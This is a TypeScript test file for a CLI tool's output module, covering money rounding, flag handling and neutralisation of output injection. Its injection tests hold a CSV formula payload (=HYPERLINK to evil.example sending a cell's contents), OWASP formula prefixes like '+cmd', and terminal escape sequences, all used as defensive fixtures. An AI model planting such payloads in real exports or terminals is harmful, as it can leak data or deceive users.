import fc from 'fast-check';
import { Command, Option } from 'commander';
import { describe, expect, it } from 'vitest';
import { TenureError } from '../app/errors.ts';
import { jsonText, withFormat, money, monthText, neutraliseFormula, resolveCurrency, resolveFormat, resolveLang, roundDecimalText, roundNumber, toCsv, toTable, writeCsv, writeCsvCells } from './output.ts';
import { escapeControls, safeMessage } from './terminal.ts';

const notTty = { isTTY: false } as NodeJS.WriteStream;

/** Control characters other than the newline (C0, DEL, C1) and U+2028, by code point. */
const controls = (text: string) =>
  [...text].map((c) => c.codePointAt(0) ?? 0).filter((cp) => (cp < 0x20 && cp !== 0x0a) || (cp >= 0x7f && cp <= 0x9f) || cp === 0x2028);

describe('money and numbers at the edge', () => {
  it('money as string: exact DECIMAL text becomes a number rounded half-up to 2 decimals', () => {
    expect(money('198.000000')).toBe(198);
    expect(money('302.845')).toBe(302.85);
    expect(money('302.844999')).toBe(302.84);
    expect(money('-0.005')).toBe(-0.01);
    expect(money('-0.004')).toBe(0);
    expect(Object.is(money('-0.004'), -0)).toBe(false);
    expect(money('12345678901234.995')).toBe(12345678901235);
    expect(money(null)).toBeNull();
  });

  it('floats round from their shortest decimal text, not the binary value below it', () => {
    // 1.005 and 2.675 are stored just below the half; toFixed(2) gives 1.00 and 2.67.
    expect(money(1.005)).toBe(1.01);
    expect(money(2.675)).toBe(2.68);
    expect(roundNumber(0.1234565, 6)).toBe(0.123457);
    expect(roundNumber(1e-9, 2)).toBe(0);
  });

  it('rounding decimal text agrees with integer half-up rounding (property)', () => {
    fc.assert(
      fc.property(fc.bigInt({ min: -(10n ** 15n), max: 10n ** 15n }), (n) => {
        // n thousandths, as text: round half away from zero to hundredths.
        const neg = n < 0n;
        const abs = neg ? -n : n;
        const text = `${neg ? '-' : ''}${abs / 1000n}.${(abs % 1000n).toString().padStart(3, '0')}`;
        const cents = (abs + 5n) / 10n;
        const want = cents === 0n ? '0.00' : `${neg ? '-' : ''}${cents / 100n}.${(cents % 100n).toString().padStart(2, '0')}`;
        expect(roundDecimalText(text, 2)).toBe(want);
      }),
      { numRuns: 2000 },
    );
  });

  it('rounding a float agrees with rounding its shortest decimal text (property, fast path included)', () => {
    const near = fc.tuple(fc.integer({ min: -(2 ** 40), max: 2 ** 40 }), fc.integer({ min: -3, max: 3 })).map(([n, d]) => (n + 0.5) / 100 + d * Number.EPSILON);
    fc.assert(
      fc.property(fc.oneof(fc.double({ min: -1e12, max: 1e12, noNaN: true }), near, fc.integer().map((n) => n / 1000)), (x) => {
        expect(roundNumber(x, 2)).toBe(Number(roundDecimalText(String(x).includes('e') ? x.toFixed(20) : String(x), 2)) + 0);
      }),
      { numRuns: 5000 },
    );
  });

  it('months as dates: a DATE becomes YYYY-MM', () => {
    expect(monthText('2025-07-01')).toBe('2025-07');
    expect(monthText('2025-07')).toBe('2025-07');
    expect(monthText('2025-07-01 00:00:00')).toBe('2025-07');
  });
});

describe('flags of the output', () => {
  it('--json --format csv silently printed JSON: now a usage error', () => {
    expect(() => resolveFormat({ json: true, format: 'csv' }, notTty)).toThrow(TenureError);
    expect(() => resolveFormat({ json: true, format: 'table' }, notTty)).toThrow(/cannot be combined with --format table/);
    expect(resolveFormat({ json: true, format: 'json' }, notTty)).toBe('json');
    expect(resolveFormat({ json: true }, notTty)).toBe('json');
    expect(resolveFormat({}, notTty)).toBe('csv');
  });

  it('a command that declares its own --lang keeps it instead of a conflicting second one', () => {
    const own = new Command('x').addOption(new Option('--lang <lang>').choices(['zh', 'en']).default('zh'));
    expect(() => withFormat(own)).not.toThrow();
    expect(own.options.filter((o) => o.long === '--lang')).toHaveLength(1);
    expect(withFormat(new Command('y')).options.map((o) => o.long)).toEqual(['--format', '--json', '--lang']);
  });

  it('--lang and $TENURE_LANG choose one language; zh-CN by default', () => {
    expect(resolveLang({}, {})).toBe('zh-CN');
    expect(resolveLang({ lang: 'en' }, {})).toBe('en');
    expect(resolveLang({ lang: 'zh' }, {})).toBe('zh-CN');
    expect(resolveLang({}, { TENURE_LANG: 'en' })).toBe('en');
    expect(resolveLang({ lang: 'zh-CN' }, { TENURE_LANG: 'en' })).toBe('zh-CN');
    expect(() => resolveLang({ lang: 'fr' }, {})).toThrow(/--lang must be zh-CN or en, got "fr"/);
    expect(() => resolveLang({}, { TENURE_LANG: 'de' })).toThrow(/TENURE_LANG must be/);
  });

  it('no currency anywhere: --currency, $TENURE_CURRENCY, else CNY', () => {
    expect(resolveCurrency({}, {})).toBe('CNY');
    expect(resolveCurrency({ currency: 'hkd' }, {})).toBe('HKD');
    expect(resolveCurrency({}, { TENURE_CURRENCY: 'USD' })).toBe('USD');
    expect(() => resolveCurrency({ currency: 'yuan' }, {})).toThrow(/--currency must be a three-letter ISO 4217 code/);
  });
});

describe('output injection', () => {
  it('formula injection =HYPERLINK( in a CSV text cell is neutralised with a quote and quoted', () => {
    const csv = toCsv(['name', 'n'], [{ name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', n: -3.5 }]);
    expect(csv.split('\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-3.5`);
  });

  it('every formula prefix of OWASP is neutralised, numbers are not', () => {
    for (const bad of ['=1+2', '+cmd', '-2+3+cmd|x', '@SUM(A1)', '\t=1', '\r=1']) expect(neutraliseFormula(bad)).toBe(`'${bad}`);
    for (const ok of ['-3.5', '+1', '-0.004', '1e5', '12.5%', 'plain', '', 'a=b']) expect(neutraliseFormula(ok)).toBe(ok);
    expect(toCsv(['v'], [{ v: -3.5 }, { v: '-3.5' }, { v: '@x' }])).toBe(`v\n-3.5\n-3.5\n"'@x"\n`);
  });

  it('writeCsv writes the text of toCsv in pieces of about a megabyte, neutralised and quoted the same', () => {
    const rows = Array.from({ length: 60_000 }, (_, i) => ({ id: `C${i}`, note: i % 7 === 0 ? '=1+2' : i % 5 === 0 ? 'a, "b"' : 'plain text', n: i % 3 === 0 ? null : -i / 8 }));
    const pieces: string[] = [];
    writeCsv(['id', 'note', 'n'], rows, (t) => pieces.push(t));
    expect(pieces.length).toBeGreaterThan(1);
    expect(pieces.slice(0, -1).every((p) => p.length >= 1 << 20 && p.length < (1 << 20) + 100 && p.endsWith('\n'))).toBe(true);
    expect(pieces.join('')).toBe(toCsv(['id', 'note', 'n'], rows));
    const empty: string[] = [];
    writeCsv(['a', 'b'], [], (t) => empty.push(t));
    expect(empty).toEqual([toCsv(['a', 'b'], [])]);
  });

  it('writeCsvCells writes the same text as toCsv from rows given as cells in column order', () => {
    const rows = Array.from({ length: 120_000 }, (_, i) => ({ id: i % 11 === 0 ? `-C${i}` : `C${i}`, note: i % 7 === 0 ? '=1+2' : i % 5 === 0 ? 'a, "b"\nc' : '', n: i % 3 === 0 ? null : -i / 8 }));
    const pieces: string[] = [];
    writeCsvCells(['id', 'note', 'n'], rows.map((r) => [r.id, r.note, r.n]), (t) => pieces.push(t));
    expect(pieces.length).toBeGreaterThan(1);
    expect(pieces.join('')).toBe(toCsv(['id', 'note', 'n'], rows));
  });

  it('terminal escape codes in a table cell are made visible, never sent to the terminal', () => {
    const evil = '\x1b]0;owned\x07\x1b[2J\x9b31mred\rX\nY';
    const table = toTable(['who'], [{ who: evil }]);
    expect(controls(table)).toEqual([]);
    expect(table).toContain('\\x1b]0;owned\\x07\\x1b[2J\\x9b31mred\\rX\\nY');
    expect(escapeControls('tab\there')).toBe('tab\\there');
    expect(safeMessage('line1\nbad \x1b[31m')).toBe('line1\nbad \\x1b[31m');
  });

  it('JSON stays exact: C1 controls written as \\u escapes parse back to the same text', () => {
    const value = { s: 'a\x1b[2J\u009b31m\u2028b' };
    const text = jsonText(value);
    expect(controls(text)).toEqual([]);
    expect(JSON.parse(text)).toEqual(value);
  });
});
